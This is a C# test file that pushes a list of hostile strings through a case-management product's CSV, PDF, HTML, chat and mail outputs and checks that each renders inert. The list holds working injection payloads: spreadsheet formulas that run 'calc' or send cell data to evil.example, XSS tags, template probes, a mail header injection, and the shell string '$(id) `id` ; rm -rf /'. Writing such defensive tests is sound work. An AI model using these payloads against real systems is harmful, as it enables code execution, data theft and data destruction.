using System.Globalization;
using System.IO.Compression;
using System.Net;
using System.Reflection;
using System.Text;
using System.Text.Json;
using System.Text.RegularExpressions;
using FaceUp.App.Exports;
using FaceUp.App.Http;
using FaceUp.App.Notifications;
using FaceUp.App.Notifications.Mail;
using FaceUp.Domain.Cases;
using FaceUp.Domain.Notifications;
using FaceUp.Print;
using FaceUp.Tests.Slices;
using UglyToad.PdfPig;

namespace FaceUp.Tests.Hostile;

/// <summary>
/// Words that some program might obey, through every output that the house has. Each is told by a judge of its kind: what a spreadsheet, a chat, a browser, a mail program or a
/// reader of PDF would make of it, and not by what the renderer meant.
/// </summary>
public sealed partial class Hostile_strings
{
    public static readonly string[] All =
    [
        "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|'/C calc'!A0", "=HYPERLINK(\"https://evil.example\",\"click\")", "  =1+1", "\t=1+1", "\r\n=1+1", "＝1+1", "－1", "|cmd", "%0A=1", "\";=1+1;\"", "a\",=1+1,\"",
        "=IMPORTXML(CONCAT(\"https://evil.example/?\",A1),\"//a\")", "\uFEFF=1+1", "\u200B=1+1", "\0=1+1",
        "pay\u202Etxt.exe", "\u2066a\u2067b\u2069", "\u200F!\u061C", "\u202D\u202C", "zero\u200Bwidth\u2060\uFEFF\u00AD", "\u3164\u115F\u2800", "tag\U000E0041\U000E0042", "e" + new string('\u0301', 40),
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "' onmouseover='alert(1)", "</title></style><script>x</script>", "<!--", "<!channel>", "<@U012AB3CD>", "<https://evil.example|click>", "<at>boss</at>",
        "[click](https://evil.example)", "![x](https://evil.example/p.png)", "https://evil.example", "javascript:alert(1)", "mailto:boss@evil.example", "*b* _i_ ~s~ `c` ```", "# h\n- item", "&lt;b&gt; &amp;amp; &#42;",
        "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "@{triggerBody()}", "{{DATE(2026-01-01T00:00:00Z,SHORT)}}", "{0} {1} %s %n", "$(id) `id` ; rm -rf /",
        "\u001B[31mred\u001B[0m", "\u001B]8;;https://evil.example\u0007link\u001B]8;;\u0007", "\u009B31m", "\u0007\b\u007F\u0085", "nul\0nul", "line\u2028sep\u2029", "\r\nSubject: hijacked\r\n\r\nbody",
        "(/JavaScript) << /S /URI /URI (https://evil.example) >> endobj", ") Tj ET /Launch (cmd)", "stream\nendstream", "\\n\\r\\(\\)",
        "\uD800", "\uDC00", "a\uD83Db", "\uFFFF\uFFFE", new string('W', 20_000), string.Concat(Enumerable.Repeat("قدّم(abc)[12] ", 500)), "",
    ];

    public static TheoryData<int> Numbers => [.. Enumerable.Range(0, All.Length)];

    private static readonly HashSet<string> Judged = ["SlackMessage.Render", "TeamsMessage.Render", "SignedMessage.Render", "NoticeLetter.Of"];

    /// <summary>Answers that are no JSON of ours, and where their strings are judged: here, or because none of them holds a word that a person wrote.</summary>
    private static readonly Dictionary<string, string> Downloads = new()
    {
        [ExportsApi.Exports] = "as_a_case_taken_out", [ExportsApi.Csv] = "in_CSV", [ExportsApi.Schema] = "no words of people", [App.Tenants.TenantsApi.Schema] = "no words of people",
        [App.Files.FilesApi.Preview] = "a picture drawn anew", [App.Checkpoints.CheckpointsApi.Latest] = "hashes", [App.Checkpoints.CheckpointsApi.Keys] = "keys", [App.Checkpoints.OwnProofApi.Proof] = "hashes",
        [App.Analytics.AnalyticsApi.Csv] = "in_CSV", [App.Analytics.AnalyticsApi.Board] = "on_the_boards_page, and in_a_PDF", [DocsApi.OpenApi] = "no words of people", [App.Telephone.CallsApi.Calls] = "XML of the platform's own writer, of the organisation's texts",
        [App.Audit.RecordExportsApi.Exports] = "canonical JSON, for a program", [App.Evidence.PacksApi.Packs] = "in_a_PDF, and as_a_case_taken_out; its tables by cells of the same kind", [App.Disclosure.SecurityTxtApi.Path] = "no words of people",
    };

    [Fact]
    public void Are_judged_in_every_output_that_there_is()
    {
        var renderers = typeof(SlackMessage).Assembly.GetTypes().SelectMany(t => t.GetMethods(BindingFlags.Public | BindingFlags.NonPublic | BindingFlags.Static | BindingFlags.DeclaredOnly))
            .Where(m => m.GetParameters() is [{ ParameterType: var first }, ..] && first == typeof(Notice) && (m.ReturnType == typeof(byte[]) || m.ReturnType == typeof(Letter)))
            .Select(m => $"{m.DeclaringType!.Name}.{m.Name}");
        Assert.Equal(Judged.Order(), renderers.Distinct().Order());
        var documents = typeof(Pdf).Assembly.GetTypes().SelectMany(t => t.GetMethods(BindingFlags.Public | BindingFlags.Static)).Where(m => !m.IsSpecialName && m.GetParameters() is [{ ParameterType: var first }, ..] && first == typeof(PrintedDocument));
        Assert.Equal(["Html.Write", "Pdf.Write"], documents.Select(m => $"{m.DeclaringType!.Name}.{m.Name}").Order());
        var downloads = ApiDescription.Endpoints.Where(e => e.Endpoint.Bytes != "application/octet-stream").Select(e => e.Endpoint.Template).Where(t => !Downloads.ContainsKey(t));
        Assert.Empty(downloads); // a new one: put what its words do to whatever opens it to the test here, and name it above
    }

    [Theory, MemberData(nameof(Numbers))]
    public void Are_text_in_CSV(int number)
    {
        var cell = CsvWriter.Cell(All[number]);
        Assert.StartsWith("\"", cell, StringComparison.Ordinal);
        Assert.EndsWith("\"", cell, StringComparison.Ordinal);
        var read = Assert.Single(Exports.Csv.Read($"{cell}\r\n"));
        var seen = Assert.Single(read).TrimStart();
        Assert.True(seen.Length == 0 || !"=+-@|%\t\r＝＋－＠".Contains(seen[0], StringComparison.Ordinal), seen);
        AssertSeen(cell);
        Assert.DoesNotContain('\n', cell);
    }

    [Theory, MemberData(nameof(Numbers))]
    public async Task Are_letters_in_a_PDF(int number)
    {
        var text = All[number];
        using var to = new MemoryStream();
        await Pdf.Write(new(text, "en", false, text, [new PrintedPart.Heading(text), new PrintedPart.Paragraph(text), new PrintedPart.Facts([new(text, text)]), new PrintedPart.Table([new(text)], [[text]]), new PrintedPart.Bars([new(text, 1, text)])]), to, default);
        using var pdf = PdfDocument.Open(to.ToArray());
        var raw = Regex.Replace(Encoding.Latin1.GetString(to.ToArray()), "stream\n.*?\nendstream", "", RegexOptions.Singleline);
        foreach (var name in new[] { "/JavaScript", "/JS", "/URI", "/Launch", "/OpenAction", "/AA", "/Annots", "/AcroForm", "/EmbeddedFile", "/SubmitForm", "/GoToR", "/RichMedia", "/XFA", "/XObject" })
            Assert.DoesNotContain(name, raw, StringComparison.Ordinal);
        Assert.All(pdf.GetPages(), p => Assert.Empty(p.GetAnnotations()));
        var said = string.Concat(pdf.GetPages().Select(p => string.Concat(p.Letters.Select(l => l.Value))));
        AssertSeen(said.Replace("\n", "", StringComparison.Ordinal));
        AssertSeen((pdf.Information.Title ?? "").Replace("\n", "", StringComparison.Ordinal).Replace("\r", "", StringComparison.Ordinal).Replace("\t", "", StringComparison.Ordinal));
    }

    [Theory, MemberData(nameof(Numbers))]
    public async Task Are_text_in_a_page_of_HTML(int number)
    {
        var text = All[number];
        using var to = new MemoryStream();
        await Html.Write(new(text, "en", false, text, [new PrintedPart.Heading(text), new PrintedPart.Paragraph(text), new PrintedPart.Facts([new(text, text)]), new PrintedPart.Table([new(text)], [[text]]), new PrintedPart.Bars([new(text, 1, text)])]), to, default);
        using var empty = new MemoryStream();
        await Html.Write(new("", "en", false, "", [new PrintedPart.Heading(""), new PrintedPart.Paragraph(""), new PrintedPart.Facts([new("", "")]), new PrintedPart.Table([new("")], [[""]]), new PrintedPart.Bars([new("", 1, "")])]), empty, default);
        var page = Encoding.UTF8.GetString(to.ToArray());
        Assert.Equal(Tags(Encoding.UTF8.GetString(empty.ToArray())), Tags(page)); // no text made a tag, or changed one
        AssertSeen(WebUtility.HtmlDecode(page).Replace("\n", "", StringComparison.Ordinal).Replace("\t", "", StringComparison.Ordinal));
    }

    [Theory, MemberData(nameof(Numbers))]
    public void Are_text_on_the_boards_page(int number)
    {
        var said = App.Analytics.BoardHtml.Text(All[number]);
        Assert.DoesNotContain(said, c => c is '<' or '>' or '"' or '\'');
        AssertSeen(WebUtility.HtmlDecode(said).ReplaceLineEndings("").Replace("\t", "", StringComparison.Ordinal));
    }

    [Theory, MemberData(nameof(Numbers))]
    public void Are_a_plain_name_in_every_message(int number)
    {
        var notice = new Notice("id", NoticeKind.DeadlineNear, All[number], "https://faceup.example/demo/notices/n1", new(Duty.Feedback, new(2026, 3, 4)), null, [new(NoticeKind.ReportReceived, All[number], 2)]);
        foreach (var one in (Notice[])[notice, notice with { Kind = NoticeKind.Digest }, notice with { Language = "ar" }])
        {
            var letter = NoticeLetter.Of(one, "chair@organisation.example", "notices@faceup.example");
            Assert.DoesNotContain('\n', letter.Subject);
            Assert.Equal(Tags(NoticeLetter.Of(one with { Unit = "x", Counts = [new(NoticeKind.ReportReceived, "x", 2)] }, "chair@organisation.example", "notices@faceup.example").Html), Tags(letter.Html));
            foreach (var said in Strings(SlackMessage.Render(one)).Concat(Strings(TeamsMessage.Render(one))).Concat(Strings(SignedMessage.Render(one, 1))).Append(letter.Text.ReplaceLineEndings(" ")).Append(WebUtility.HtmlDecode(letter.Html).ReplaceLineEndings(" ")))
            {
                AssertSeen(said.Replace("\n", " ", StringComparison.Ordinal));
                Assert.DoesNotContain("evil.example", said, StringComparison.Ordinal);
                Assert.DoesNotContain("{{", said, StringComparison.Ordinal);
                Assert.DoesNotContain("${", said, StringComparison.Ordinal);
            }
        }
    }

    [Fact]
    public async Task Are_inert_as_a_case_taken_out_however_they_came()
    {
        await using var house = await TestHouse.Open();
        var taken = All.Where(s => s.Length is > 0 and < 20_000 && TextRulesTake(s)).ToArray();
        Assert.True(taken.Length > 30);
        var report = await new Reporter(house).TriesToSubmit(new { category = "corruption", unit = "plant-north", language = "en", answers = taken.Take(20).Select((text, i) => new { question = $"what {i}", text }).ToArray() });
        var id = await Person.Compliance(house).Finds(Submitted.Of(report.Must(201).Json).Reference);
        foreach (var text in taken.Skip(20))
            Assert.True((await Person.Compliance(house).Notes(id, text)).Status is 204 or 422, text);
        using var zip = new ZipArchive(new MemoryStream((await Person.Compliance(house).Asks("POST", $"cases/{id}/exports", new { format = "zip" })).Must(200).Body));
        foreach (var entry in zip.Entries)
        {
            Assert.DoesNotContain("..", entry.FullName, StringComparison.Ordinal);
            using var reader = new StreamReader(entry.Open(), Encoding.UTF8);
            var content = await reader.ReadToEndAsync();
            if (entry.Name.EndsWith(".html", StringComparison.Ordinal))
            {
                AssertSeen(content.Replace("\n", "", StringComparison.Ordinal).Replace("\t", "", StringComparison.Ordinal));
                Assert.DoesNotMatch("(?i)<(script|img|svg|iframe|a|form|link|object|embed)[\\s>/]", content);
            }
            else if (entry.Name.EndsWith(".json", StringComparison.Ordinal))
                Assert.Equal(JsonValueKind.Object, JsonDocument.Parse(content).RootElement.ValueKind);
        }
    }

    private static bool TextRulesTake(string text) => App.Conversation.TextRules.Check(text) is null;

    /// <summary>Nothing is there that one could not see, and nothing that turns its neighbours around; a mark that a script is written with may be.</summary>
    private static void AssertSeen(string said)
    {
        foreach (var rune in said.EnumerateRunes())
        {
            var category = Rune.GetUnicodeCategory(rune);
            Assert.False(category is UnicodeCategory.Control or UnicodeCategory.Surrogate or UnicodeCategory.PrivateUse or UnicodeCategory.LineSeparator or UnicodeCategory.ParagraphSeparator
                || (category == UnicodeCategory.Format && rune.Value is not (0x200C or 0x200D)), $"U+{rune.Value:X4} in {said[..Math.Min(80, said.Length)]}");
        }
    }

    private static List<string> Tags(string html) => [.. Tag().Matches(html).Select(m => m.Value)];

    private static IEnumerable<string> Strings(byte[] json) => Strings(JsonDocument.Parse(json).RootElement);

    private static IEnumerable<string> Strings(JsonElement e) => e.ValueKind switch
    {
        JsonValueKind.Object => e.EnumerateObject().SelectMany(p => Strings(p.Value)),
        JsonValueKind.Array => e.EnumerateArray().SelectMany(Strings),
        JsonValueKind.String => [e.GetString()!],
        _ => [],
    };

    [GeneratedRegex("<[^>]*>")]
    private static partial Regex Tag();
}
